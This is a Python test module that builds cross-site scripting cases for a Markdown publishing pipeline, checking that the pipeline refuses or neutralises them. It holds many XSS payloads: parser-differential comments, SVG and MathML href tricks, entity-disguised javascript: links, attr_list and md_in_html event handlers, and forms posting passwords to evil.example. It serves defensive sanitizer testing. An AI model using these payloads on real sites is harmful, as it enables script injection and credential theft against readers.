"""Script reaching readers: raw HTML that a browser parses differently from a naive parser,
address schemes in disguise, Markdown extensions that write attributes (attr_list,
md_in_html), and event handlers in every front-matter field that holds inline Markdown.

Body cases that can run script are "error": the writers' guide promises that scripts,
frames, forms, styles, event handlers and javascript:/data: addresses in the body are
errors. The rest are "safe": refused, or published with nothing live in them.
"""

from __future__ import annotations

from attack_content import explainer
from attack_harness import Case

CLS = "script"
CASES: list[Case] = []

X = "alert(document.domain)"


def body(id: str, payload: str, note: str, expect: str = "error", **kwargs) -> None:
    marker = payload.split("\n", 1)[0]
    CASES.append(
        Case(
            id=f"script-{id}",
            cls=CLS,
            files={"evil.md": explainer(payload=payload)},
            note=note,
            line=kwargs.pop("line", marker),
            expect=expect,
            **kwargs,
        )
    )


# --- script elements ------------------------------------------------------------------------
body("script", f"<script>{X}</script>", "a plain <script>")
body("script-upper-src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "an upper-case <SCRIPT SRC>")
body("script-slash", '<script/src="//evil.example/x.js"></script>', "<script/src=…>")
body("script-inline", f"Text <script>{X}</script> more.", "a <script> inside a paragraph")
body("script-in-svg", f"<svg><script>{X}</script></svg>", "a <script> inside <svg>")

# --- comments, CDATA and raw-text elements: what a naive parser hides ------------------------
body("comment-short", f"<!--><img src=x onerror={X}> -->", "<!--> is a whole comment to a browser")
body("comment-dash", f"<!---><img src=x onerror={X}> -->", "<!---> is a whole comment to a browser")
body("comment-bang", f"<!-- --!><img src=x onerror={X}> -->", "--!> closes a comment in a browser")
body("comment-inline", f"Text <!--><img src=x onerror={X}>--> more.", "<!--> inside a paragraph")
body("cdata", f"<![CDATA[><img src=x onerror={X}>]]>", "CDATA is a bogus comment ending at the first >")
for tag in ("noscript", "xmp", "noembed", "noframes", "title", "textarea", "iframe", "style"):
    body(
        f"rawtext-{tag}",
        f'<{tag}><p title="</{tag}><img src=x onerror={X}>"></{tag}>',
        f"<{tag}> is raw text to a browser: the attribute's </{tag}> ends it",
    )
body("iframe-srcdoc", f'<iframe srcdoc="<script>{X}</script>"></iframe>', "<iframe srcdoc>")
body("plaintext", "<plaintext>", "<plaintext> swallows the rest of the page", expect="safe")

# --- SVG and MathML --------------------------------------------------------------------------
body(
    "svg-animate-href",
    f'<svg><a><animate attributeName="href" values="javascript:{X}"/><text x="0" y="20">Go</text></a></svg>',
    "SVG <animate> sets href to javascript:",
)
body(
    "svg-set-href",
    f'<svg><a><set attributeName="href" to="javascript:{X}"/><text x="0" y="20">Go</text></a></svg>',
    "SVG <set> sets href to javascript:",
)
body(
    "svg-xlink-href",
    f'<svg><a xlink:href="javascript:{X}"><text x="0" y="20">Go</text></a></svg>',
    "SVG <a xlink:href=javascript:>",
)
body("svg-use-data", '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>', "SVG <use href=data:>")
body("svg-onload", f"<svg onload={X}>", "<svg onload>")
body("svg-animate-onbegin", f"<svg><animate onbegin={X} attributeName=x dur=1s></svg>", "SVG onbegin")
body("svg-plain", '<svg width="10" height="10"><circle r="5"/></svg>', "a plain <svg>", expect="safe")
body("math-href", f'<math href="javascript:{X}">CLICK</math>', "MathML href=javascript:")
body(
    "math-maction",
    f'<math><maction actiontype="statusline" xlink:href="javascript:{X}">CLICK'
    "<mtext>x</mtext></maction></math>",
    "MathML <maction xlink:href>",
)
body(
    "math-mglyph-style",
    f"<math><mtext><table><mglyph><style><img src=x onerror={X}>",
    "MathML namespace confusion (mglyph/style)",
)
body("math-plain", "<math><mi>x</mi></math>", "plain MathML", expect="safe")

# --- schemes in disguise in raw HTML -----------------------------------------------------------
for name, href in (
    ("entity-colon", f"javascript&#58;{X}"),
    ("named-colon", f"javascript&colon;{X}"),
    ("mixed-case", f"JaVaScRiPt:{X}"),
    ("entity-tab", f"java&#x09;script:{X}"),
    ("literal-newline", f"java\nscript:{X}"),
    ("leading-space", f" javascript:{X}"),
    ("c0-control", f"\x0ejavascript:{X}"),
    ("entity-c0-control", f"&#14;javascript:{X}"),
    ("entity-j", f"&#106;avascript:{X}"),
    ("vbscript", "vbscript:msgbox(1)"),
    ("data-html", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("data-upper", "DATA:text/html,x"),
):
    body(f"a-{name}", f'<a href="{href}">x</a>', f"<a href> with {name}")
body("a-unquoted", f"<a href=javascript:{X}>x</a>", "unquoted href=javascript:")
body("img-src-data-svg", f'<img alt="" src="data:image/svg+xml,<svg onload={X}>">', "img src=data:")
body("video-poster", f'<video poster="javascript:{X}"></video>', "<video poster=javascript:>")
body(
    "img-srcset-data",
    '<img alt="" src="a.png" srcset="a.png 1x, data:image/svg+xml;base64,PHN2Zy8+ 2x">',
    "data: as the second candidate of srcset",
)
body("img-srcset-javascript", f'<img alt="" srcset="a.png 1x, javascript:{X} 2x">', "javascript: in srcset")

# --- schemes in disguise in Markdown links -----------------------------------------------------
for name, href in (
    ("entity-colon", f"javascript&#58;{X}"),
    ("named-colon", f"javascript&colon;{X}"),
    ("entity-j", f"&#106;avascript:{X}"),
    ("hex-entities", f"&#x6A;&#x61;vascript:{X}"),
    ("c0-control", f"\x0ejavascript:{X}"),
    ("vbscript-entity", "vbscript&#58;msgbox(1)"),
    ("data-entity", "data&#58;text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("plain", f"javascript:{X}"),
):
    body(f"md-link-{name}", f"[click]({href})", f"Markdown link to {name}")
body("md-image-entity", f"![x](javascript&#58;{X})", "Markdown image to javascript&#58;")
body(
    "md-reference-entity",
    f"[click][r]\n\n[r]: javascript&#58;{X}",
    "reference link to javascript&#58;",
    line="[r]: ",  # where the address is written
)
body(
    "md-autolink-quote",
    f'<https://alpha.example/" onmouseover="{X}>',
    "an autolink with a quote in it",
    expect="safe",
)
body(
    "md-link-title-quote",
    f'[x](https://alpha.example/ "t\\" onmouseover=\\"{X}")',
    "a link title with a quote",
    expect="safe",
)

# --- attr_list: attributes written by Markdown, not by raw HTML ------------------------------
body("attr-heading-handler", f'## Heading {{: onmouseover="{X}" }}', "attr_list event handler on a heading")
body("attr-short-handler", f"## Heading {{onclick={X}}}", "attr_list short form onclick")
body("attr-image-onerror", f'![x](images/none.png){{: onerror="{X}" }}', "attr_list onerror on an image")
body(
    "attr-autofocus",
    f'## Title {{: tabindex="0" autofocus onfocus="{X}" }}',
    "attr_list autofocus+onfocus (runs on load)",
)
body(
    "attr-link-href",
    f'[x](https://alpha.example/){{: href="javascript:{X}" }}',
    "attr_list replaces a checked href",
)
body(
    "attr-style",
    'Paragraph.\n{: style="position:fixed;inset:0;background:url(https://evil.example/x.png)" }',
    "attr_list style overlay",
    expect="safe",
    line="{: ",  # the attribute list's own line
)
body(
    "attr-formaction",
    f'Paragraph.\n{{: formaction="javascript:{X}" }}',
    "attr_list formaction",
    line="{: ",
)

# --- md_in_html: tags Markdown parses itself, attributes and all -----------------------------
body("mdinhtml-div-onclick", f'<div markdown="1" onclick="{X}">x</div>', "md_in_html div onclick")
body(
    "mdinhtml-details-ontoggle",
    f'<details markdown="1" open ontoggle="{X}">x</details>',
    "md_in_html details ontoggle (runs on load)",
)
body(
    "mdinhtml-form",
    '<form markdown="1" action="https://evil.example/steal">'
    'Password: <input name="p" type="password"></form>',
    "md_in_html form",
)
body(
    "mdinhtml-style",
    '<div markdown="1" style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">'
    "Log in</div>",
    "md_in_html style overlay",
    expect="safe",
)
body("mdinhtml-iframe", '<iframe markdown="1" src="https://evil.example/"></iframe>', "md_in_html iframe")
body("mdinhtml-object", f'<object markdown="1" data="javascript:{X}"></object>', "md_in_html object")
body(
    "mdinhtml-nested",
    f'<div markdown="1">\n<section markdown="1" onmouseover="{X}">x</section>\n</div>',
    "nested md_in_html with an event handler",
    line="<section",
)
body("mdinhtml-span", f'<p markdown="span" onclick="{X}">x</p>', "md_in_html span mode onclick")

# --- other elements and attributes ------------------------------------------------------------
body("meta-refresh", f'<meta http-equiv="refresh" content="0;url=javascript:{X}">', "meta refresh")
body("base-href", '<base href="https://evil.example/">', "<base href>")
body("form-action", '<form action="https://evil.example/steal"><input name="p"></form>', "<form>")
body("button-formaction", f'<button formaction="javascript:{X}">Go</button>', "button formaction")
body("input-formaction", f'<input type="image" src="x.png" formaction="javascript:{X}">', "input formaction")
body("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">', "<link rel=stylesheet>")
body("style-element", "<style>body{display:none}</style>", "<style>")
body(
    "style-attr-url", f'<p style="background-image:url(javascript:{X})">x</p>', "style with url(javascript:)"
)
body("style-attr-expression", f'<p style="width:expression({X})">x</p>', "style with expression()")
body(
    "style-attr-overlay",
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Log in again</div>',
    "style overlay over the page",
    expect="safe",
)
body("embed", '<embed src="https://evil.example/x.swf">', "<embed>")
body("object-data", '<object data="data:text/html,x"></object>', "<object data=data:>")
body("frameset", f'<frameset><frame src="javascript:{X}"></frameset>', "<frameset><frame>")
body(
    "img-onerror-newline",
    f"<img src=x\nonerror={X}>",
    "event handler after a newline in the tag",
    line="onerror=",
)
body("img-mixed-case-handler", f"<IMG SRC=x OnErRoR={X}>", "mixed-case event handler")
body("custom-element-onclick", f"<x-widget onclick={X}>x</x-widget>", "custom element onclick")
body(
    "a-ping",
    '<a href="https://alpha.example/report" ping="https://evil.example/track">x</a>',
    "<a ping> (tracking the reader)",
    expect="safe",
)
body(
    "a-target-blank",
    '<a href="https://evil.example/" target="_blank">x</a>',
    "raw link to another site without rel=noopener (reverse tabnabbing)",
    expect="safe",
)
body(
    "img-remote",
    '<img alt="" src="https://evil.example/pixel.gif">',
    "an image from another host (a request the site promises not to make)",
    expect="safe",
)

# --- raw HTML inside other Markdown constructs -----------------------------------------------
body("in-link-text", f"[<img src=x onerror={X}>](https://alpha.example/)", "HTML in a link's text")
body("in-table-cell", f"| a |\n|---|\n| <img src=x onerror={X}> |", "HTML in a table cell", line="| <img")
body("in-footnote", f"Text[^1].\n\n[^1]: <img src=x onerror={X}>", "HTML in a footnote", line="[^1]: ")
body("in-list", f"- <img src=x onerror={X}>", "HTML in a list item")
body("in-blockquote", f"> <script>{X}</script>", "HTML in a blockquote")
body("in-heading", f"## <img src=x onerror={X}>", "HTML in a heading (the toc makes an id of it)")
body(
    "in-abbr",
    f'The HTML spec.\n\n*[HTML]: "><img src=x onerror={X}>',
    "an abbreviation whose title holds markup",
    expect="safe",
    line="*[HTML]",
)


# --- front-matter fields that hold inline Markdown ---------------------------------------------
def field(id: str, note: str, expect: str = "safe", **kwargs) -> None:
    """One front-matter field holding a payload; the located error must point at its line."""
    text = explainer(**kwargs)
    anchor, marker = {
        "summary": ("---", "summary:"),
        "claim_text": ("claims:", "    text:"),
        "claim_note": ("claims:", "    note:"),
        "correction": ("corrections:", "    text:"),
        "source_note": ("sources:", "    note:"),
    }[next(iter(kwargs))]
    line = text.count("\n", 0, text.find(marker, text.find(anchor))) + 1
    CASES.append(
        Case(id=f"script-{id}", cls=CLS, files={"evil.md": text}, note=note, line=line, expect=expect)
    )


PAYLOADS = {
    "img-onerror": (f"<img src=x onerror={X}>", "safe"),
    "entity-javascript-link": (f"[click](javascript&#58;{X})", "error"),
    "javascript-link": (f"[click](javascript:{X})", "error"),
    "autolink-quote": (f'<https://alpha.example/" onmouseover="{X}>', "safe"),
    "comment-short": (f"<!--><img src=x onerror={X}>-->", "safe"),
    "entities": (f"&lt;script&gt;{X}&lt;/script&gt;", "safe"),
}
for key, names in (
    ("summary", PAYLOADS),
    ("claim_text", PAYLOADS),
    ("claim_note", ("img-onerror", "entity-javascript-link", "javascript-link")),
    ("correction", ("img-onerror", "entity-javascript-link", "javascript-link")),
    ("source_note", ("img-onerror",)),
):
    for name in names:
        payload, expect = PAYLOADS[name]
        field(
            f"{key.replace('_', '-')}-{name}",
            f"{key} holding {name}",
            expect=expect,
            **{key: f"Text {payload} more."},
        )
CASES.append(
    Case(
        id="script-title-img-onerror",
        cls=CLS,
        files={"evil.md": explainer(title=f"Title <img src=x onerror={X}>")},
        note="title with markup (plain text field)",
        line=2,
    )
)
CASES.append(
    Case(
        id="script-locator-img-onerror",
        cls=CLS,
        files={
            "evil.md": explainer(
                payload=f'Cited [@alpha, "><img src=x onerror={X}>].',
            )
        },
        note="a citation locator holding markup",
        line="Cited [@alpha",
    )
)
CASES.append(
    Case(
        id="script-jsonld-breakout",
        cls=CLS,
        files={"evil.md": explainer(title=f"</script><script>{X}</script>", summary="</script><!--")},
        note="a title that would close the JSON-LD script",
        line=2,
    )
)
